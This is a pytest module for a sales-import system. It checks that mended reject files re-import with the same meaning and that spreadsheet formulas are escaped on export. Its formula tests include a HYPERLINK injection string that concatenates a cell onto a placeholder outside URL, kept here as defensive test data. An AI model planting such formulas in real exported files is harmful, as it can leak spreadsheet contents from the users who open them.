"""A reject file that is mended and imported means the same as the file that it comes from."""

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from app.bulk.reading.tables import open_tables
from app.bulk.types import Reason
from app.core.spreadsheets import FORMULA_STARTS, guard_formula, unguard_formula
from tests.bulk.conftest import Import
from tests.factories.sales_files import sale, write_csv, write_workbook
from tests.fixtures.records import Records

PRICES = """
    SELECT sku, trim_scale(amount)::text AS amount FROM price_changes
    JOIN items ON items.id = item_id ORDER BY sku, price_changes.id
"""
SOLD = """
    SELECT sku, to_char(occurred_at AT TIME ZONE 'UTC', 'YYYY-MM-DD') AS day FROM stock_movements
    JOIN stock_levels ON stock_levels.id = level_id JOIN items ON items.id = item_id
    WHERE kind = 'sale' ORDER BY sku
"""
EUR: dict[str, Any] = {"currency": "EUR", "time_zone": "UTC"}


def mend(rejects: Path, old: str, new: str, *, encoding: str = "utf-8-sig") -> Path:
    """Replace a text in the reject file, as a person does, and give the file a new name."""
    content = rejects.read_bytes().decode(encoding)
    assert old in content
    mended = rejects.with_name("mended.csv")
    mended.write_bytes(content.replace(old, new).encode(encoding))
    return mended


def text_of(rejects: Path, encoding: str = "utf-8-sig") -> str:
    return rejects.read_bytes().decode(encoding)


async def values(records: Records, statement: str) -> list[tuple[Any, ...]]:
    return [tuple(row.values()) for row in await records.rows(statement)]


class TestFormatOfTheInput:
    async def test_prices_with_a_decimal_comma_mean_the_same(
        self, tmp_path: Path, import_file: Import, rejects: Path, own_records: Records
    ) -> None:
        rows = [
            sale("A", "two", price="1,250"),
            sale("B-1", "two", price="12,50"),
            sale("C", 1, price="24,50"),
        ]
        path = write_csv(tmp_path / "x.csv", rows, delimiter=";")
        await import_file(path, **EUR | {"currency": "KWD"})
        mended = mend(rejects, ";two;", ";2;")
        report = await import_file(mended, **EUR | {"currency": "KWD"})
        assert (report.sales, report.rejected.total()) == (2, 0)
        assert await values(own_records, PRICES) == [("A", "1.25"), ("B-1", "12.5"), ("C", "24.5")]

    @pytest.mark.parametrize(("order", "day"), [("dmy", "2024-04-03"), ("mdy", "2024-03-04")])
    async def test_what_other_rows_decided_holds_for_the_rejects(
        self,
        tmp_path: Path,
        import_file: Import,
        rejects: Path,
        own_records: Records,
        order: str,
        day: str,
    ) -> None:
        """Alone, 1,250 and 03/04/2024 could be read in two ways."""
        decisive = "25/04/2024" if order == "dmy" else "04/25/2024"
        rows = [sale("A", "two", "03/04/2024", "1,250"), sale("B-1", 1, decisive, "2,50")]
        await import_file(write_csv(tmp_path / "x.csv", rows, delimiter=";"), **EUR)
        await import_file(mend(rejects, ";two;", ";2;"), **EUR)
        assert ("A", day) in await values(own_records, SOLD)
        assert ("A", "1.25") in await values(own_records, PRICES)

    async def test_encoding_delimiter_and_header_are_kept(
        self, tmp_path: Path, import_file: Import, rejects: Path
    ) -> None:
        header = ("伝票番号", "商品コード", "商品名", "数量", "日時", "単価", "棚", "国")
        rows = [sale("急須", "二つ", price="1980", name="常滑焼")]
        path = write_csv(
            tmp_path / "売上①.csv", rows, header=header, encoding="cp932", delimiter="\t"
        )
        await import_file(path, **EUR | {"currency": "JPY"})
        first, second = text_of(rejects, "cp932").splitlines()
        own = ["sheet", "row", "reason", "explanation", "read with"]
        assert first.split("\t") == [*own, *header]
        assert second.split("\t")[:3] == ["売上①.csv", "2", "unreadable_quantity"]
        assert second.split("\t")[5:] == [str(cell) for cell in rows[0]]

    async def test_a_file_name_outside_the_encoding_makes_it_utf_8(
        self, tmp_path: Path, import_file: Import, rejects: Path
    ) -> None:
        rows = [sale("A", "two", name="Käse")]
        path = write_csv(tmp_path / "売上.csv", rows, encoding="cp1252")
        await import_file(path, encoding="cp1252")
        assert "Käse" in text_of(rejects)

    async def test_numbers_of_a_workbook_follow_the_decimal_sign_of_its_texts(
        self, tmp_path: Path, import_file: Import, rejects: Path, own_records: Records
    ) -> None:
        rows = [sale("A", "two", price="12,50"), sale("B-1", "two", price=2.125)]
        path = write_workbook(tmp_path / "x.xlsx", {"S": rows})
        await import_file(path, **EUR | {"currency": "KWD"})
        await import_file(mend(rejects, ";two;", ";2;"), **EUR | {"currency": "KWD"})
        assert await values(own_records, PRICES) == [("A", "12.5"), ("B-1", "2.125")]

    async def test_rejects_of_a_reject_file_have_its_columns_once(
        self, tmp_path: Path, import_file: Import, rejects: Path
    ) -> None:
        await import_file(write_csv(tmp_path / "x.csv", [sale("A", "two")]))
        first = text_of(rejects)
        await import_file(mend(rejects, "BLUE MUG", "BLUE MUG"))
        again = text_of(rejects)
        assert again == first.replace("x.csv", "mended.csv")


class TestFormulas:
    TEXTS = (
        '=HYPERLINK("http://shop.invalid/"&A1,"open")',
        "@SUM(1+1)",
        "+1 spare lid",
        "-2+3",
        "＝1",
        "'=1",
        "''+x",
        "'quoted'",
    )

    async def test_texts_are_guarded_and_read_back_as_they_were(
        self, tmp_path: Path, import_file: Import, rejects: Path, own_records: Records
    ) -> None:
        rows = [sale(f"A-{n}", "two", name=text) for n, text in enumerate(self.TEXTS)]
        await import_file(write_csv(tmp_path / "x.csv", rows, encoding="utf-8-sig"))
        (table,) = open_tables(rejects)
        cells = [row for _, row in table.rows]
        assert [row[7] for row in cells] == list(self.TEXTS)
        written = text_of(rejects)
        assert ',"=' not in written
        assert not any(f",{start}" in written for start in FORMULA_STARTS)
        await import_file(mend(rejects, ",two,", ",2,"))
        names = await values(own_records, "SELECT name FROM items ORDER BY sku")
        assert [name for (name,) in names] == list(self.TEXTS)

    async def test_negative_numbers_stay_numbers(
        self, tmp_path: Path, import_file: Import, rejects: Path
    ) -> None:
        await import_file(write_csv(tmp_path / "x.csv", [sale("A", -3, price="-2.50")]))
        assert ",-3," in text_of(rejects)
        assert ",-2.50," in text_of(rejects)

    async def test_a_file_that_is_no_reject_file_keeps_its_apostrophes(
        self, tmp_path: Path, import_file: Import, own_records: Records
    ) -> None:
        await import_file(write_csv(tmp_path / "x.csv", [sale("A", name="'=1")]))
        assert await own_records.value("SELECT name FROM items") == "'=1"

    @given(st.text(alphabet="'=+-@＝a1 \t", max_size=6))
    def test_every_text_is_guarded_and_comes_back(self, text: str) -> None:
        guarded = guard_formula(text)
        assert not guarded.startswith(FORMULA_STARTS)
        assert unguard_formula(guarded) == text


async def test_sheets_with_other_columns_are_listed_under_one_header(
    tmp_path: Path, import_file: Import, rejects: Path
) -> None:
    first = write_workbook(tmp_path / "x.xlsx", {"S": [sale("A", "two")]})
    await import_file(first)
    workbook = load_workbook(first)
    sheet = workbook.create_sheet("T")
    sheet.append(["Qty", "Unit price", "SKU", "Date"])
    sheet.append(["three", "7.50", "B-1", "2024-03-01"])
    workbook.save(first)
    report = await import_file(first)
    assert report.rejected == {Reason.UNREADABLE_QUANTITY: 2}
    (table,) = open_tables(rejects)
    by_name = [dict(zip(table.header, row, strict=False)) for _, row in table.rows]
    assert by_name[1]["Quantity"] == "three"
    assert by_name[1]["StockCode"] == "B-1"
